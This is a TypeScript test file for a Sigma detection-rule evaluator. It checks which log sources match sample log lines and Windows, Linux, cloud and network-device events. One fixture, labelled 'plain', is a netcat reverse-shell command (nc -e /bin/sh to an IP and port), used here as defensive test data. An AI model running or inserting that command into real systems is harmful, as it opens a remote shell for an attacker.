import { describe, expect, it } from 'vitest';
import {
  createEvaluator,
  eventFromFields,
  eventFromLog,
  type JsonObject,
  type SigmaEvent,
} from '../../src/index.ts';
import { documentsOf } from '../rule-of.ts';

/** Whether a rule of this log source that matches everything is asked about the event. */
function isOf(event: SigmaEvent, logSource: string): boolean {
  const text = `title: t\nlogsource: { ${logSource} }\ndetection:\n    selection:\n        Nothing: null\n    condition: selection\n`;
  return createEvaluator(documentsOf(text)).evaluate(event).length === 1;
}

const header = 'Nov 24 10:00:00 host01 ';
const access = '192.0.2.7 - - [24/Nov/2026:10:00:00 +0000] "GET /x HTTP/1.1" 200 7 "-" "curl/8.0"';
const lines = {
  access,
  proxied: access.replace('/x', 'http://www.example.com/x'),
  sshd: `${header}sshd[7]: Failed password for root from 192.0.2.7 port 22 ssh2`,
  sudo: `${header}sudo: alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls`,
  audit: 'type=EXECVE msg=audit(1795515301.123:456): argc=1 a0="id"',
  json: '{"eventType":"x"}',
  wrapped: '{"integration":"aws","aws":{"source":"cloudtrail"}}',
  plain: 'nc -e /bin/sh 192.0.2.7 4444',
  apacheError: '[Tue Nov 24 10:00:00.123456 2026] [core:error] [pid 7] [client 192.0.2.7:5] AH00126: x',
  nginxError: '2026/11/24 10:00:00 [error] 7#7: *1 open() failed',
  cisco: `${header}%PARSER-5-CFGLOG_LOGGEDCMD: User:alice  logged command:show run`,
} as const;

/** The lines that a log source takes in, when nobody says where they are from. */
const takes: readonly (readonly [logSource: string, lines: readonly (keyof typeof lines)[]])[] = [
  ['category: webserver', ['access', 'proxied']],
  ['category: proxy', ['proxied']],
  ['service: nginx', ['access', 'proxied', 'nginxError']],
  ['product: apache, service: error', ['apacheError']],
  ['product: apache, service: access', ['access', 'proxied']],
  ['product: modsecurity', ['apacheError', 'nginxError']],
  ['product: linux', ['sshd', 'sudo', 'audit']],
  ['product: linux, service: sshd', ['sshd']],
  ['product: linux, service: sudo', ['sudo']],
  ['product: linux, service: auth', ['sshd', 'sudo']],
  ['product: linux, service: auditd', ['audit']],
  ['product: linux, category: process_creation', ['audit']],
  ['category: process_creation', ['audit']],
  ['product: windows', []],
  ['product: windows, category: process_creation', []],
  ['product: okta, service: okta', ['json']],
  ['product: aws, service: cloudtrail', ['wrapped']],
  ['product: gcp, service: gcp.audit', []],
  ['product: cisco, service: aaa', ['cisco']],
  ['category: firewall', ['cisco']],
  ['product: fortigate', []],
  ['service: netflow', ['json']],
  [
    'product: django, category: application',
    ['sshd', 'sudo', 'json', 'plain', 'apacheError', 'nginxError', 'cisco'],
  ],
  ['category: antivirus', ['json']],
  [
    'definition: any event at all',
    [
      'access',
      'proxied',
      'sshd',
      'sudo',
      'audit',
      'json',
      'wrapped',
      'plain',
      'apacheError',
      'nginxError',
      'cisco',
    ],
  ],
];

describe('what JSON lacks says nothing of a log that it does not say it is of', () => {
  it.each([
    ['product: okta, service: okta', '{"a":1}', false],
    ['product: okta, service: okta', '{"a":1,"eventType":"x"}', true],
    ['product: zeek, service: rdp', '{"a":1}', false],
    ['product: zeek, service: rdp', '{"cert_count":0}', true],
    ['product: azure, service: pim', '{"riskEventType":"x"}', true],
    ['product: azure, service: signinlogs', '{"riskEventType":"x"}', false],
    ['product: windows, service: security', '{"a":1}', false],
    ['product: windows, service: security', '{"Channel":"Security"}', true],
    ['category: antivirus', '{"a":1}', true],
  ])('%s: %s', (logSource, log, expected) => {
    expect(isOf(eventFromLog({ log }), logSource)).toBe(expected);
  });

  it('is asked for where its sender names the log, or a rule finds something', () => {
    const given = eventFromLog({ log: '{"a":1}', logsource: { product: 'okta', service: 'okta' } });
    expect(isOf(given, 'product: okta, service: okta')).toBe(true);
    const rule =
      'title: t\nlogsource: {product: okta, service: okta}\ndetection:\n    s:\n        a: 1\n    f:\n        b: 2\n    condition: s and not f\n';
    const found = createEvaluator(documentsOf(rule)).evaluate(eventFromLog({ log: '{"a":1}' }));
    expect(found).toHaveLength(1);
  });
});

describe('lines of devices', () => {
  it.each([
    ['product: cisco, service: aaa', `${header}%ASA-6-605005: Login permitted from 192.0.2.7/11`, false],
    ['product: cisco, service: aaa', "%ASA-5-111008: User 'alice' executed the 'show run' command.", true],
    ['product: cisco, service: bgp', `${header}%BGP-3-NOTIFICATION: sent to neighbor`, true],
    ['product: huawei, service: bgp', '%%01BGP/3/BGP_AUTH_FAILED(l):text', true],
    ['product: huawei, service: bgp', 'anything else', false],
    ['product: juniper, service: bgp', `${header}rpd[7]: bgp_recv: text`, true],
    ['product: juniper, service: bgp', `${header}sshd[7]: text`, false],
  ])('%s: %s', (logSource, log, expected) => {
    expect(isOf(eventFromLog({ log }), logSource)).toBe(expected);
  });
});

describe('a line without a log source is of every one that it can be of', () => {
  it.each(takes)('%s: %j', (logSource, names) => {
    const found = Object.entries(lines).filter(([, log]) => isOf(eventFromLog({ log }), logSource));
    expect(found.map(([name]) => name).sort()).toEqual([...names].sort());
  });
});

describe('fields without a log source are of every one that they do not contradict', () => {
  const sysmon = 'Microsoft-Windows-Sysmon/Operational';
  it.each<[string, JsonObject, string, boolean]>([
    ['anything', { A: 1 }, 'product: linux, service: sshd', true],
    ['anything', { A: 1 }, 'product: windows, category: process_creation', true],
    ['an event id', { EventID: 1 }, 'product: windows, category: process_creation', true],
    ['an event id', { EventID: 4625 }, 'product: windows, category: process_creation', false],
    ['an event id', { EventID: 4625 }, 'product: windows, service: security', true],
    ['a channel', { Channel: 'Security', EventID: 4625 }, 'product: windows, service: security', true],
    ['a channel', { Channel: 'Security', EventID: 4625 }, 'product: windows, service: system', false],
    ['a channel', { Channel: 'Security', EventID: 4625 }, 'product: linux', false],
    [
      'channel and event id',
      { Channel: sysmon, EventID: 1 },
      'product: windows, category: process_creation',
      true,
    ],
    ['channel and event id', { Channel: sysmon, EventID: 1 }, 'category: process_creation', true],
    [
      'channel and event id',
      { Channel: sysmon, EventID: 1 },
      'product: windows, category: file_event',
      false,
    ],
  ])('%s %j: %s', (_, fields, logSource, expected) => {
    expect(isOf(eventFromFields({ fields }), logSource)).toBe(expected);
  });

  it('under the names of the log source that is asked', () => {
    const rule = documentsOf(
      'title: t\nlogsource: { product: windows, category: process_creation }\ndetection:\n    selection:\n        Image: a.exe\n    condition: selection\n',
    );
    const fields = { EventID: 4688, NewProcessName: 'a.exe' };
    expect(createEvaluator(rule).evaluate(eventFromFields({ fields }))).toHaveLength(1);
  });
});
